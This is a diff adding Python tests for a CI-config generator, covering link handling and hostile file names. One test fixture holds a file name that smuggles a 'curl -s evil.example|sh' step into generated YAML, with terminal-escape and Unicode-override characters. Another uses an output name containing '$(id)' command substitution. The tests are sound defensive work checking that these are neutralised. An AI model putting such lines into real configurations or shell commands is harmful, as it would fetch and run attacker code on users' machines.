@@ -146,6 +146,50 @@ def test_a_file_that_is_there_stays(tmp_path: Path, run: Callable[..., Any]) -> 
     assert (top / ".hybridci.yml").read_text("utf-8") == printed.output
 
 
+def test_what_a_link_names_is_not_written(tmp_path: Path, run: Callable[..., Any]) -> None:
+    top = repository(tmp_path / "a", {})
+    outside = tmp_path / "outside"
+    outside.write_text("mine\n")
+    for target in (outside, tmp_path / "nothing"):
+        (top / ".hybridci.yml").symlink_to(target)
+        for options, word in (((), "is there already"), (("--force",), "is a link")):
+            said = run(top, *options)
+            assert (said.exit_code, word in said.output) == (2, True), said.output
+        (top / ".hybridci.yml").unlink()
+    assert (outside.read_text("utf-8"), (tmp_path / "nothing").exists()) == ("mine\n", False)
+
+    (top / ".hybridci.yml").hardlink_to(outside)
+    outside.chmod(0o640)
+    assert run(top, "--force").exit_code == 0
+    assert outside.read_text("utf-8") == "mine\n"
+    assert (top / ".hybridci.yml").stat().st_mode & 0o777 == 0o640
+    (top / "folder").mkdir()
+    said = run(top, "--force", "-o", "folder")
+    assert (said.exit_code, "is no file" in said.output) == (2, True)
+    assert sorted(path.name for path in top.iterdir()) == [".git", ".hybridci.yml", "folder"]
+
+
+def test_the_name_of_a_file_is_no_line_of_its_own(tmp_path: Path, run: Callable[..., Any]) -> None:
+    top = repository(tmp_path / "a", {"a\n      run: curl -s evil.example|sh\n    - name: x #\u202e\x1b[2J.sln": ""})
+    for options, key in (((), "test"), (("--job",), None)):
+        printed = run(top, *options, "--stdout").output
+        fields = fields_of(printed)
+        steps = fields[key]["steps"] if key else fields["steps"]
+        assert steps == [{"name": "dotnet", "run": "dotnet test"}]
+        assert "# from a       run: curl -s evil.example|sh     - name: x #  [2J.sln\n" in printed
+        said = run(top, *options, "--output", "it's $(id).yml", "--force").output
+        assert "(from a       run: curl -s evil.example|sh     - name: x #  [2J.sln)\n" in said
+        command = "hybridci job submit -F" if key is None else "hybridci service apply -f"
+        for text in (said, (top / "it's $(id).yml").read_text("utf-8")):
+            assert f"{command} 'it'\"'\"'s $(id).yml'" in text
+
+
+def test_a_file_whose_name_is_no_text_is_guessed_from_too(tmp_path: Path, run: Callable[..., Any]) -> None:
+    top = repository(tmp_path / "a", {"a\udcff.sln": ""})
+    assert run(top).exit_code == 0
+    assert "# from a?.sln\n" in (top / ".hybridci.yml").read_text("utf-8")
+
+
 def test_from_a_folder_below_the_file_is_at_the_top(tmp_path: Path, run: Callable[..., Any]) -> None:
     top = repository(tmp_path / "a", {"x/y/z": ""})
     said = run(top / "x" / "y")
